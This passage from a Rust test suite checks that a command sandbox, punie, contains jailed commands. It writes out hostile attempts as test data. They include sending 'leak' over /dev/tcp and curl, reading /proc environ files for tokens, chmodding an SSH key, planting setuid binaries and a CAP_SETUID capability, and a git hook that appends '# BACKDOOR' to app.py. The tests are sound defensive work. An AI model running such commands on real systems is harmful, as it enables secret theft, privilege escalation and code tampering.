/// A helper that dies mid-command (the out-of-memory killer, a stray signal) sends no report,
/// so the run fails; what was made in the workspace meanwhile is still moved aside, and
/// nothing is left running. A command that makes a protected path is stopped at once, so what
/// is made here is made from outside just before the kill, as a command would have made it
/// (owned by the workspace's owner): the watcher's stop and the kill may come in either order,
/// and the outcome is the same. With namespaces only: without them the process killed here
/// is the keeper, and the helper below it carries on
/// (`descendants_die_with_the_run_when_the_helper_is_killed`).
#[test]
fn protected_paths_are_moved_aside_when_the_helper_dies() {
    let with_namespaces = identities()
        .into_iter()
        .filter(|identity| *identity != Identity::NoNamespaces);
    for (round, identity) in with_namespaces.enumerate() {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        let tag = format!("{}", 86_400 + round);
        let killer = {
            let (tag, ws) = (tag.clone(), ws.to_path_buf());
            std::thread::spawn(move || {
                kill_the_helper_of(&format!("sleep {tag}"), || {
                    use std::os::unix::fs::MetadataExt;
                    let owner = std::fs::metadata(&ws).unwrap();
                    let cargo = ws.join(".cargo");
                    std::fs::create_dir(&cargo).unwrap();
                    std::fs::write(cargo.join("config.toml"), "[build]\n").unwrap();
                    for path in [cargo.clone(), cargo.join("config.toml")] {
                        std::os::unix::fs::lchown(&path, Some(owner.uid()), Some(owner.gid()))
                            .unwrap();
                    }
                })
            })
        };
        let run = scenario.sandbox(&attempts(&[&["sleep", &tag]]), &[]);
        assert!(
            killer.join().unwrap(),
            "{identity:?}: no helper found: {}",
            run.text
        );
        run.assert_printed("raised");
        assert!(
            !ws.join(".cargo/config.toml").exists(),
            "{identity:?}: {}",
            run.text
        );
        run.assert_printed("moved to .punie/quarantine/");
        let left = processes_matching(&format!("sleep {tag}"));
        assert!(left.is_empty(), "{identity:?}: left behind: {left:?}");
    }
}

/// Waits (at most 30 s) for a process whose command line contains `needle`, runs `first`,
/// then kills the outermost `punie jail-exec` above it with SIGKILL. Whether it found one.
fn kill_the_helper_of(needle: &str, first: impl FnOnce()) -> bool {
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        let found = processes_matching(needle);
        if let Some(pid) = found.first().and_then(|line| line.split(':').next()) {
            let mut helper = None;
            let mut pid: i32 = pid.parse().unwrap();
            while let Some(parent) = parent_of(pid) {
                let cmdline = std::fs::read(format!("/proc/{parent}/cmdline")).unwrap_or_default();
                if String::from_utf8_lossy(&cmdline).contains("jail-exec") {
                    helper = Some(parent);
                }
                pid = parent;
            }
            if let Some(helper) = helper {
                first();
                // SAFETY: kill has no memory effects.
                unsafe { libc::kill(helper, libc::SIGKILL) };
                return true;
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

/// The parent of `pid` as `/proc` says, if it is not init.
fn parent_of(pid: i32) -> Option<i32> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let ppid: i32 = status
        .lines()
        .find_map(|line| line.strip_prefix("PPid:"))?
        .trim()
        .parse()
        .ok()?;
    (ppid > 1).then_some(ppid)
}

/// Landlock does not cover metadata; the read-only mounts do (where there are namespaces).
#[test]
fn metadata_outside_the_workspace_is_kept_with_namespaces() {
    for identity in identities()
        .into_iter()
        .filter(|identity| *identity != Identity::NoNamespaces)
    {
        let scenario = Scenario::new(identity);
        let existing = scenario.outside().join("existing.txt");
        std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o644)).unwrap();
        let before = std::fs::metadata(&existing).unwrap();
        let run = scenario.sandbox(
            &attempts(&[
                &["chmod", "777", "O$/existing.txt"],
                &["touch", "-c", "-d", "2001-01-01", "O$/existing.txt"],
            ]),
            &[],
        );
        assert_mode_and_times_kept(identity, &existing, &before, &run.output);
    }
}

/// Without namespaces no mount keeps metadata outside the workspace: seccomp refuses owners
/// and extended attributes by path and sends modes and times by path to the helper, which
/// sets them only inside the workspace. As root and as a user (who owns every file here, so
/// only the jail stops the change); `chmod +x`, `touch`, `cp -p` and `git init` still work.
#[test]
fn metadata_outside_the_workspace_is_kept_without_namespaces() {
    let mut who = vec![Identity::NoNamespaces];
    if is_root() {
        who.push(Identity::UnprivilegedNoNamespaces);
    }
    for identity in who {
        let scenario = Scenario::new(identity);
        let existing = scenario.outside().join("existing.txt");
        let key = scenario.home().join(".ssh/id_ed25519");
        let targets = [
            existing.clone(),
            key.clone(),
            scenario.home().join(".ssh"),
            scenario.home(),
            scenario.outside(),
        ];
        std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o644)).unwrap();
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
        let before: Vec<_> = targets
            .iter()
            .map(|path| std::fs::metadata(path).unwrap())
            .collect();
        let run = scenario.sandbox(
            &format!(
                "{}{}",
                attempts(&[
                    &["chmod", "777", "O$/existing.txt", "H$/.ssh", "H$", "O$"],
                    &["chmod", "644", "H$/.ssh/id_ed25519"],
                    &["touch", "-c", "-d", "2001-01-01", "O$/existing.txt", "H$/.ssh"],
                    &["chown", "-h", "--reference=O$/existing.txt", "H$/.ssh"],
                    &["sh", "-c", "ln -s O$/existing.txt link; chmod 666 link"],
                    &[
                        "python3",
                        "-c",
                        "import os, sys\nfor p in sys.argv[1:]:\n    try: os.setxattr(p, 'user.punie', b'x')\n    except OSError as e: print(e)\n    try: os.utime(p, (0, 0))\n    except OSError as e: print(e)\n    try: os.chmod(p, 0o777)\n    except OSError as e: print(e)",
                        "O$/existing.txt",
                        "H$/.ssh",
                    ],
                    // Inside the workspace: all as usual.
                    &["sh", "-c", "printf '#!/bin/sh\\necho script-ran\\n' > s.sh && chmod +x s.sh && ./s.sh"],
                    &["sh", "-c", "touch -d 2001-01-01 a.txt && cp -p a.txt b.txt && ls -l --time-style=+%Y b.txt"],
                    // A new repository is a protected path in the workspace (the command would be
                    // stopped): its private directory has the same metadata calls.
                    &["sh", "-c", "git init -q \"$TMPDIR/repo\" && git -C \"$TMPDIR/repo\" config user.name Jailed && git -C \"$TMPDIR/repo\" config user.name"],
                ]),
                "\n",
            ),
            &[],
        );
        for (path, before) in targets.iter().zip(&before) {
            assert_mode_and_times_kept(identity, path, before, &run.output);
            let after = std::fs::symlink_metadata(path).unwrap();
            use std::os::unix::fs::MetadataExt;
            assert_eq!((after.uid(), after.gid()), (before.uid(), before.gid()));
            assert!(
                xattr_names(path).is_empty(),
                "{identity:?}: an attribute on {path:?}"
            );
        }
        run.assert_printed("script-ran");
        run.assert_printed(" 2001 b.txt");
        run.assert_printed("Jailed");
        let script = std::fs::metadata(scenario.workspace().join("s.sh")).unwrap();
        assert_eq!(script.permissions().mode() & 0o111, 0o111, "{identity:?}");
    }
}

/// The home opened as the workspace, without namespaces: the helper that sets modes and
/// times by path keeps to what Landlock grants, so a secret in the workspace, the directory
/// that holds it and the home itself keep theirs, while the home's other files may change.
#[test]
fn secrets_in_the_workspace_keep_their_metadata_without_namespaces() {
    let mut who = vec![Identity::NoNamespaces];
    if is_root() {
        who.push(Identity::UnprivilegedNoNamespaces);
    }
    for identity in who {
        let scenario = Scenario::new(identity);
        let home = scenario.home();
        let key = home.join(".ssh/id_ed25519");
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
        std::fs::set_permissions(home.join(".ssh"), std::fs::Permissions::from_mode(0o700))
            .unwrap();
        let kept = [key.clone(), home.join(".ssh"), home.clone()];
        let before: Vec<_> = kept
            .iter()
            .map(|path| std::fs::metadata(path).unwrap())
            .collect();
        let run = scenario.sandbox_in(
            &home,
            &attempts(&[
                &["chmod", "0644", ".ssh/id_ed25519"],
                &["chmod", "0777", ".ssh", "."],
                &["touch", "-c", "-d", "2001-01-01", ".ssh/id_ed25519", ".ssh", "."],
                &[
                    "python3",
                    "-c",
                    "import os\nfor p in ['.ssh/id_ed25519', '.ssh', '.']:\n    try: os.chmod(p, 0o777)\n    except OSError as e: print(e)",
                ],
                &["chmod", "600", ".gitconfig"],
            ]),
            &[],
        );
        for (path, before) in kept.iter().zip(&before) {
            assert_mode_and_times_kept(identity, path, before, &run.output);
        }
        let gitconfig = std::fs::metadata(home.join(".gitconfig")).unwrap();
        assert_eq!(
            gitconfig.permissions().mode() & 0o777,
            0o600,
            "{identity:?}: {}",
            run.output
        );
    }
}

/// Without namespaces the helper sets modes and times by path itself; as root it holds
/// capabilities the command gave up, so it changes only files the command owns: a file in
/// the workspace that belongs to another user keeps its mode and times, as it would for the
/// command's own `fchmod`.
///
/// The scenario exists only as root, so the test fails elsewhere instead of passing by
/// skipping (CI runs the tests as root): only root can give a file to another user, and only
/// root's helper holds a capability the check is there to keep from use. A user namespace
/// does not stand in for it: it maps only the user's own id, so a root-owned file bound into
/// the workspace belongs to an unmapped owner, over whom no capability of the namespace
/// counts, and the kernel would refuse the change with the helper's check removed.
#[test]
fn others_files_in_the_workspace_keep_their_metadata_without_namespaces() {
    assert!(
        is_root(),
        "this test needs root, as CI runs it: a file of another user in the workspace and a \
         helper with capabilities over it exist only there"
    );
    for identity in [Identity::NoNamespaces, Identity::UnprivilegedNoNamespaces] {
        let scenario = Scenario::new(identity);
        let others = scenario.workspace().join("others.txt");
        std::fs::write(&others, "theirs\n").unwrap();
        std::fs::set_permissions(&others, std::fs::Permissions::from_mode(0o600)).unwrap();
        // nobody's.
        std::os::unix::fs::lchown(&others, Some(65534), Some(65534)).unwrap();
        let before = std::fs::metadata(&others).unwrap();
        let run = scenario.sandbox(
            &attempts(&[
                &["chmod", "0666", "others.txt"],
                &["touch", "-c", "-d", "2001-01-01", "others.txt"],
                &["python3", "-c", "import os\nos.chmod('others.txt', 0o644)"],
                &[
                    "sh",
                    "-c",
                    "touch mine.txt && chmod 0640 mine.txt && stat -c %a mine.txt",
                ],
            ]),
            &[],
        );
        assert_mode_and_times_kept(identity, &others, &before, &run.output);
        run.assert_printed("640");
    }
}

/// Asserts that `path` (not following a link) has the mode and modification time of
/// `before`, naming the path, the identity and the run's output when not.
#[track_caller]
fn assert_mode_and_times_kept(
    identity: Identity,
    path: &Path,
    before: &std::fs::Metadata,
    output: &str,
) {
    let after = std::fs::symlink_metadata(path).unwrap();
    assert_eq!(
        after.permissions().mode(),
        before.permissions().mode(),
        "{identity:?}: the mode of {path:?} changed:\n{output}"
    );
    assert_eq!(
        after.modified().unwrap(),
        before.modified().unwrap(),
        "{identity:?}: the times of {path:?} changed:\n{output}"
    );
}

/// The names of the extended attributes of `path` (not following a link).
fn xattr_names(path: &Path) -> Vec<u8> {
    let path = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    let mut names = vec![0u8; 4096];
    // SAFETY: a NUL-terminated path and a buffer of the given length.
    let len = unsafe { libc::llistxattr(path.as_ptr(), names.as_mut_ptr().cast(), names.len()) };
    names.truncate(len.max(0) as usize);
    names
}

/// A setuid or setgid file a command leaves in the workspace runs with its owner's ids for
/// whoever starts it later: root's, when the server runs as root. No way of setting those
/// bits works, and no file capability can be set either.
#[test]
fn no_setuid_or_setgid_file_is_left_in_the_workspace() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        let run = scenario.sandbox(
            &attempts(&[
                &["sh", "-c", "cp /bin/true suid && chmod 4755 suid"],
                &["sh", "-c", "cp /bin/true sgid && chmod g+s sgid"],
                &["sh", "-c", "cp /bin/true plain && chmod 755 plain"],
                &["install", "-m", "4755", "/bin/true", "installed"],
                &["install", "-m", "2755", "/bin/true", "installed-g"],
                &[
                    "sh",
                    "-c",
                    "cp -p \"$(find /usr/bin /bin -perm -4000 -type f | head -n 1)\" copied",
                ],
                &[
                    "python3",
                    "-c",
                    "import os\nos.close(os.open('created', os.O_CREAT | os.O_WRONLY, 0o4755))",
                ],
                &[
                    "python3",
                    "-c",
                    "import ctypes, os\nfd = os.open('.', os.O_TMPFILE | os.O_WRONLY, 0o6755)\nctypes.CDLL(None).linkat(-100, b'/proc/self/fd/%d' % fd, -100, b'tmpfile', 0x400)",
                ],
                &["python3", "-c", "import os\nos.mknod('node', 0o100000 | 0o4755)"],
                &[
                    "python3",
                    "-c",
                    "import io, tarfile\nwith tarfile.open('s.tar', 'w') as t:\n    i = tarfile.TarInfo('untarred')\n    i.mode = 0o4755\n    t.addfile(i, io.BytesIO(b''))",
                ],
                &["tar", "xpf", "s.tar"],
                // A file capability (version 2: CAP_SETUID permitted and effective).
                &[
                    "python3",
                    "-c",
                    "import os, struct\nos.setxattr('plain', 'security.capability', struct.pack('<IIIII', 0x02000001, 1 << 7, 0, 0, 0))",
                ],
            ]),
            &[],
        );
        let mut marked = Vec::new();
        for entry in std::fs::read_dir(&ws).unwrap().flatten() {
            let meta = std::fs::symlink_metadata(entry.path()).unwrap();
            if meta.permissions().mode() & 0o6000 != 0 {
                marked.push(format!(
                    "{:o} {:?}",
                    meta.permissions().mode(),
                    entry.path()
                ));
            }
            let path =
                std::ffi::CString::new(entry.path().into_os_string().into_encoded_bytes()).unwrap();
            // SAFETY: NUL-terminated strings; a null buffer of size 0 asks for the size.
            let cap = unsafe {
                libc::lgetxattr(
                    path.as_ptr(),
                    c"security.capability".as_ptr(),
                    std::ptr::null_mut(),
                    0,
                )
            };
            if cap >= 0 {
                marked.push(format!("capability on {:?}", entry.path()));
            }
        }
        assert!(
            marked.is_empty(),
            "{identity:?}: {marked:?}\n{}",
            run.output
        );
        // The attempts ran, and modes without those bits are set as usual.
        for name in ["suid", "sgid", "untarred"] {
            assert!(
                ws.join(name).exists(),
                "{identity:?}: no {name}: {}",
                run.output
            );
        }
        let plain = std::fs::metadata(ws.join("plain")).unwrap();
        assert_eq!(plain.permissions().mode() & 0o7777, 0o755, "{identity:?}");
    }
}

#[test]
fn commands_stay_off_the_network_unless_allowed() {
    use std::net::{TcpListener, UdpSocket};
    use std::os::unix::net::UnixListener;
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let unix_path = scenario.outside().join("agent.sock");
        let unix = UnixListener::bind(&unix_path).unwrap();
        unix.set_nonblocking(true).unwrap();
        std::fs::set_permissions(&unix_path, std::fs::Permissions::from_mode(0o777)).unwrap();
        let tcp_port = tcp.local_addr().unwrap().port().to_string();
        let udp_port = udp.local_addr().unwrap().port().to_string();
        let unix_arg = unix_path.display().to_string();
        let connect_tcp = "import socket,sys\ns = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=2)\ns.sendall(b'leak')\nprint('tcp connected')";
        let send_udp = "import socket,sys\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'leak', ('127.0.0.1', int(sys.argv[1])))\nprint('udp sent')";
        let connect_unix = "import socket,sys\ns = socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\nprint('unix connected')";
        let code = attempts(&[
            &["python3", "-c", connect_tcp, &tcp_port],
            &["python3", "-c", send_udp, &udp_port],
            &["python3", "-c", connect_unix, &unix_arg],
            &["bash", "-c", "echo leak > /dev/tcp/127.0.0.1/$0", &tcp_port],
            &[
                "curl",
                "-s",
                "--max-time",
                "2",
                &format!("http://127.0.0.1:{tcp_port}/"),
            ],
        ]);
        let run = scenario.sandbox(&code, &[]);
        assert!(
            tcp.accept().is_err(),
            "{identity:?}: a TCP connection reached the host:\n{}",
            run.output
        );
        let mut buf = [0u8; 16];
        assert!(
            udp.recv_from(&mut buf).is_err(),
            "{identity:?}: a datagram reached the host:\n{}",
            run.output
        );
        assert!(
            unix.accept().is_err(),
            "{identity:?}: a Unix socket reached the host:\n{}",
            run.output
        );
        for said in ["tcp connected", "udp sent", "unix connected"] {
            assert!(!run.output.contains(said), "{identity:?}: {}", run.output);
        }

        // Allowed, the same connection goes through; Unix-domain sockets stay closed.
        let run = scenario.sandbox(
            &attempts(&[
                &["python3", "-c", connect_tcp, &tcp_port],
                &["python3", "-c", connect_unix, &unix_arg],
            ]),
            &["--allow-network"],
        );
        run.assert_printed("tcp connected");
        assert!(tcp.accept().is_ok(), "{identity:?}: {}", run.output);
        assert!(unix.accept().is_err(), "{identity:?}: {}", run.output);
    }
}

/// A downloaded repository's configuration names its own programs: an fsmonitor hook, a
/// filter's clean command and a diff driver's text conversion for its `.txt` files
/// (`.gitattributes`), a `!` alias and an alias that carries `-c` out of the approved
/// command's sight. The user approves `git status`, `git diff`, `git st`: none of those
/// programs runs (each would note its run and append to `app.py`), and git still answers.
#[test]
fn a_repositorys_git_configuration_runs_no_program() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        // The workspace may already be the unprivileged user's.
        let git = |args: &[&str]| {
            crate::support::git(&[&["-c", "safe.directory=*"], args].concat(), &ws);
        };
        std::fs::write(ws.join("app.py"), "print('hello')\n").unwrap();
        std::fs::write(
            ws.join("hook.sh"),
            "#!/bin/sh\necho \"$*\" >> ran-hooks.txt\necho '# BACKDOOR' >> app.py\ncat\n",
        )
        .unwrap();
        std::fs::set_permissions(ws.join("hook.sh"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        std::fs::write(ws.join(".gitattributes"), "*.txt filter=x diff=y\n").unwrap();
        git(&["init", "-q", "."]);
        git(&["add", "."]);
        git(&["commit", "-qm", "init"]);
        for (key, value) in [
            ("core.fsmonitor", "./hook.sh fsmonitor"),
            ("filter.x.clean", "./hook.sh clean"),
            ("diff.y.textconv", "./hook.sh textconv"),
            ("alias.st", "!./hook.sh alias"),
            ("alias.st2", "-c core.fsmonitor=./hook.sh status --short"),
        ] {
            git(&["config", key, value]);
        }
        std::fs::write(ws.join("app.py"), "print('hello')\n# edit\n").unwrap();
        std::fs::write(ws.join("a.txt"), "alpha\nbeta\n").unwrap();
        if identity.unprivileged() {
            let (uid, gid) = test_user();
            chown_tree(&ws, uid, gid);
        }
        let run = scenario.sandbox(
            &attempts(&[
                &["git", "status", "--short"],
                &["git", "diff"],
                &["git", "diff", "--", "app.py"],
                &["git", "st"],
                &["git", "st2"],
                &["git", "-C", "W$", "log", "--oneline"],
            ]),
            &[],
        );
        assert!(
            !ws.join("ran-hooks.txt").exists(),
            "{identity:?}: the repository's programs ran: {:?}\n{}",
            std::fs::read_to_string(ws.join("ran-hooks.txt")),
            run.output
        );
        assert_eq!(
            std::fs::read_to_string(ws.join("app.py")).unwrap(),
            "print('hello')\n# edit\n",
            "{identity:?}"
        );
        // `status` lists both changes; `diff` shows the file no driver converts.
        run.assert_printed(" M a.txt\n M app.py\n");
        run.assert_printed("+# edit");
        run.assert_printed(" init\n");
    }
}

/// `git rev-parse HEAD` in `dir`.
fn git_head(dir: &Path) -> String {
    let out = Command::new("git")
        .args(["-c", "safe.directory=*", "rev-parse", "HEAD"])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// A submodule has a configuration of its own (`.git/modules/<name>/config`), which the
/// superproject's scan does not read, and `git status` runs a git inside every populated
/// submodule: its drivers must not run either.
#[test]
fn a_submodules_git_configuration_runs_no_program() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        let origin = scenario.outside().join("lib-origin");
        std::fs::create_dir_all(&origin).unwrap();
        let git = |dir: &Path, args: &[&str]| {
            crate::support::git(
                &[
                    &["-c", "safe.directory=*", "-c", "protocol.file.allow=always"],
                    args,
                ]
                .concat(),
                dir,
            );
        };
        std::fs::write(origin.join("lib.txt"), "alpha\n").unwrap();
        std::fs::write(origin.join(".gitattributes"), "*.txt filter=x\n").unwrap();
        git(&origin, &["init", "-q", "."]);
        git(&origin, &["add", "."]);
        git(&origin, &["commit", "-qm", "lib"]);
        std::fs::write(ws.join("app.py"), "print('hello')\n").unwrap();
        git(&ws, &["init", "-q", "."]);
        git(
            &ws,
            &["submodule", "add", "-q", origin.to_str().unwrap(), "lib"],
        );
        git(&ws, &["commit", "-qm", "init"]);
        std::fs::write(
            ws.join("hook.sh"),
            format!(
                "#!/bin/sh\necho \"$*\" >> {}/ran-hooks.txt\ncat\n",
                ws.display()
            ),
        )
        .unwrap();
        std::fs::set_permissions(ws.join("hook.sh"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        git(
            &ws.join("lib"),
            &["config", "filter.x.clean", "../hook.sh clean"],
        );
        std::fs::write(ws.join("lib/lib.txt"), "alpha\nbeta\n").unwrap();
        if identity.unprivileged() {
            let (uid, gid) = test_user();
            chown_tree(&ws, uid, gid);
        }
        let run = scenario.sandbox(
            &attempts(&[
                &["git", "status", "--short"],
                &["git", "diff", "--submodule=diff"],
                &["git", "-C", "lib", "status", "--short"],
                // No work tree, so no submodules to list: git still runs.
                &[
                    "git",
                    "--git-dir",
                    "W$/.git/modules/lib",
                    "log",
                    "--oneline",
                ],
            ]),
            &[],
        );
        assert!(
            !ws.join("ran-hooks.txt").exists(),
            "{identity:?}: the submodule's programs ran: {:?}\n{}",
            std::fs::read_to_string(ws.join("ran-hooks.txt")),
            run.output
        );
        // The submodule's change is still reported.
        run.assert_printed(" m lib\n");
        run.assert_printed(" M lib.txt\n");
        run.assert_printed(" lib\n");
        // Round 10: a gitlink `.gitmodules` does not name makes `git submodule foreach` fail,
        // and `.gitmodules` outranks the defaults that would keep git out of submodules.
        let head = git_head(&ws.join("lib"));
        git(
            &ws,
            &[
                "update-index",
                "--add",
                "--cacheinfo",
                &format!("160000,{head},unlisted"),
            ],
        );
        git(
            &ws,
            &[
                "config",
                "-f",
                ".gitmodules",
                "submodule.lib.ignore",
                "none",
            ],
        );
        if identity.unprivileged() {
            let (uid, gid) = test_user();
            chown_tree(&ws, uid, gid);
        }
        let unlisted = scenario.sandbox(
            &attempts(&[
                &["git", "diff", "--submodule=diff"],
                &["git", "status", "--short", "--ignore-submodules=none"],
            ]),
            &[],
        );
        assert!(
            !ws.join("ran-hooks.txt").exists(),
            "{identity:?}: an unlisted submodule's programs ran: {:?}\n{}",
            std::fs::read_to_string(ws.join("ran-hooks.txt")),
            unlisted.output
        );
        // Each gitlink was scanned where it is, and git ran with the filter switched off.
        unlisted.assert_printed("+beta");
    }
}

#[test]
fn the_server_and_other_processes_are_out_of_reach() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        // Another process of the same user, with a token in its environment.
        let mut other = Command::new("sleep");
        other
            .arg("86399")
            .env_clear()
            .env("OTHER_TOKEN", "PUNIE-OTHER-TOKEN-51a");
        if identity == Identity::Unprivileged {
            use std::os::unix::process::CommandExt;
            let (uid, gid) = test_user();
            other.uid(uid).gid(gid);
        }
        let mut other = other.spawn().unwrap();
        let other_pid = other.id().to_string();
        let code = attempts(&[
            &["sh", "-c", "cat /proc/*/environ; cat /proc/$PPID/environ"],
            &[
                "sh",
                "-c",
                "cat /proc/$0/environ /proc/$0/cmdline",
                &other_pid,
            ],
            &[
                "python3",
                "-c",
                "import os\nfor p in os.listdir('/proc'):\n    try: print(open('/proc/%s/environ' % p, 'rb').read())\n    except Exception as e: pass",
            ],
            &["sh", "-c", "head -c 4096 /proc/1/mem; cat /proc/1/maps"],
            // Only stdin, stdout and stderr come in (3 is the directory `ls` reads).
            &["sh", "-c", "echo FDS $(ls /proc/self/fd)"],
            &["kill", "-9", &other_pid],
            &["kill", "-STOP", &other_pid],
            &["env"],
        ]);
        let run = scenario.sandbox(&code, &[]);
        run.assert_no(SERVER_TOKEN);
        run.assert_no("PUNIE-OTHER-TOKEN-51a");
        assert!(
            run.output.contains("FDS 0 1 2 3\n"),
            "{identity:?}: the command has more than stdin, stdout and stderr:\n{}",
            run.output
        );
        let state = std::fs::read_to_string(format!("/proc/{other_pid}/stat")).unwrap();
        let state = state
            .rsplit_once(')')
            .unwrap()
            .1
            .split_whitespace()
            .next()
            .unwrap()
            .to_owned();
        assert!(
            matches!(state.as_str(), "S" | "R"),
            "{identity:?}: the other process was signalled (state {state}):\n{}",
            run.output
        );
        let _ = other.kill();
        let _ = other.wait();
        // The environment is the allowlist and nothing else.
        let names: Vec<&str> = run
            .output
            .lines()
            .filter_map(|line| line.split_once('=').map(|(name, _)| name))
            .filter(|name| {
                name.chars().all(|ch| ch.is_ascii_uppercase() || ch == '_') && !name.is_empty()
            })
            .collect();
        for name in &names {
            assert!(
                [
                    "PATH",
                    "HOME",
                    "TMPDIR",
                    "LANG",
                    "TERM",
                    "NO_COLOR",
                    "OLDPWD",
                    "PWD",
                    // With `GIT_CONFIG_KEY_<n>` and `GIT_CONFIG_VALUE_<n>`, which the filter
                    // above skips: git's configuration (`jail/git_config.rs`).
                    "GIT_CONFIG_COUNT"
                ]
                .contains(name),
                "{identity:?}: {name} is in the command's environment:\n{}",
                run.output
            );
        }
        assert!(names.contains(&"HOME"), "{identity:?}: {}", run.output);
    }
}

/// What a command could change of another process without signalling it: its limits
/// (`RLIMIT_CPU` of one second makes the kernel kill it), its priority, scheduling policy, CPUs
/// and I/O priority. None of it may change, for a process of the same user outside the jail
/// (root's, when punie runs as root) and for the server itself, which must keep answering.
#[test]
fn other_processes_limits_and_scheduling_are_out_of_reach() {
    const MEDDLE: &str = r#"import ctypes, os, resource, sys
libc = ctypes.CDLL(None, use_errno=True)
IOPRIO_SET = {'x86_64': 251, 'aarch64': 30}[os.uname().machine]
helper = os.getppid()
server = int(open('/proc/%d/stat' % helper).read().rsplit(')', 1)[1].split()[1])
victim = int(sys.argv[1])
for target in [victim, server]:
    for name, call in [
        ('cpu', lambda: resource.prlimit(target, resource.RLIMIT_CPU, (1, 1))),
        ('as', lambda: resource.prlimit(target, resource.RLIMIT_AS, (1 << 20, 1 << 20))),
        ('core', lambda: resource.prlimit(target, resource.RLIMIT_CORE, (0, 0))),
        ('nice', lambda: os.setpriority(os.PRIO_PROCESS, target, 19)),
        ('pgrp', lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(target), 19)),
        ('affinity', lambda: os.sched_setaffinity(target, {0})),
        ('policy', lambda: os.sched_setscheduler(target, os.SCHED_IDLE, os.sched_param(0))),
        ('ioprio', lambda: print(libc.syscall(IOPRIO_SET, 1, target, 3 << 13), ctypes.get_errno())),
    ]:
        try:
            call()
            print(name, target, 'done')
        except OSError as e:
            print(name, target, e)
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
os.nice(1)
os.sched_setaffinity(0, os.sched_getaffinity(0))
print('own limits and priority set')"#;
    let mut who = identities();
    if is_root() {
        who.push(Identity::UnprivilegedNoNamespaces);
    }
    for identity in who {
        let scenario = Scenario::new(identity);
        let mut victim = Command::new("sleep");
        victim.arg("86398").env_clear();
        {
            use std::os::unix::process::CommandExt;
            // Its own process group, so that the group's priority is the victim's alone.
            victim.process_group(0);
            if identity.unprivileged() {
                let (uid, gid) = test_user();
                victim.uid(uid).gid(gid);
            }
        }
        let mut victim = Reaped(victim.spawn().unwrap());
        let pid = victim.0.id() as i32;
        let before = process_settings(pid);
        let run = scenario.sandbox(
            &format!(
                "{}print(run_command('true'))\nprint('server survived')\n",
                attempts(&[&["python3", "-c", MEDDLE, &pid.to_string()]])
            ),
            &[],
        );
        let after = process_settings(pid);
        let alive = victim.0.try_wait().unwrap().is_none();
        drop(victim);
        assert!(alive, "{identity:?}: the victim died:\n{}", run.output);
        assert_eq!(
            before, after,
            "{identity:?}: the victim changed:\n{}",
            run.output
        );
        run.assert_printed("own limits and priority set");
        run.assert_printed("server survived");
    }
}

/// A process started by a test, killed and reaped when the test ends, a failed one too (it
/// would hold the test's output open).
struct Reaped(std::process::Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// What another process could change of `pid`: its limits, its nice value and scheduling
/// policy, the CPUs it may run on, its I/O priority.
fn process_settings(pid: i32) -> Vec<String> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let fields: Vec<String> = stat
        .rsplit_once(')')
        .unwrap()
        .1
        .split_whitespace()
        .map(str::to_owned)
        .collect();
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    // SAFETY: ioprio_get takes integers.
    let ioprio = unsafe { libc::syscall(libc::SYS_ioprio_get, 1, pid) };
    vec![
        std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap(),
        // Fields 19 (nice) and 41 (policy), counted from 3 after the name.
        format!("nice {} policy {}", fields[16], fields[38]),
        status
            .lines()
            .find(|line| line.starts_with("Cpus_allowed_list"))
            .unwrap()
            .to_owned(),
        format!("ioprio {ioprio}"),
    ]
}

/// SysV IPC objects belong to the kernel, not to a process: a command that reached the
/// host's could read another process's shared memory of the same user, and what it made
/// would stay after the run, beyond the out-of-memory killer's reach.
#[test]
fn sysv_ipc_neither_reaches_other_processes_nor_outlives_the_run() {
    const IPC_SECRET: &str = "PUNIE-SHM-SECRET-3f9a";
    const READ_AND_MAKE: &str = "import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
key, host_id, base = (int(arg) for arg in sys.argv[1:])
for shm_id in [libc.shmget(key, 0, 0), host_id]:
    addr = libc.shmat(shm_id, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        print('no segment', shm_id, ctypes.get_errno())
        continue
    print('read', ctypes.string_at(addr, 64))
    ctypes.memmove(addr, b'OVERWRITTEN', 11)
IPC_CREAT = 0o1000
print('made', libc.shmget(base + 2, 1 << 20, IPC_CREAT | 0o600), libc.msgget(base + 3, IPC_CREAT | 0o600), libc.semget(base + 4, 1, IPC_CREAT | 0o600))";
    for (round, identity) in identities().into_iter().enumerate() {
        let scenario = Scenario::new(identity);
        let base =
            0x5000_0000 | ((std::process::id() as i32 & 0xf_ffff) << 8) | (round as i32) << 4;
        // Another process's segment, readable by its owner only (the user punie runs as).
        // SAFETY: System V calls with plain arguments; the segment is mapped only here.
